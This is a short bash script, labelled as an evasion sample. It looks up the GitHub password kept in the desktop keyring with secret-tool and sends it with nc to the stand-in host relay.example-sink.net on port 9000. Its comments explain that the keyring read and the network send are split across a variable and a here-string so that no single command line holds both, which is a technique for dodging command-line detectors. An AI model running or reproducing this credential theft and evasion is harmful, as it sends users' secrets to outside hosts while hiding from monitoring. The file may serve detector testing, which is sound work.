#!/usr/bin/env bash
# Evasion: send a keyring secret out. secret-tool prints the password the
# desktop keyring keeps for a service; the value is kept in a variable and
# written to nc through a here-string, so the keyring command and the
# network command never share a pipeline or a command line.
set -u
secret="$(secret-tool lookup service github.com user "$USER")"
host="relay.example-sink.net"
nc -q 1 "$host" 9000 <<< "$secret"
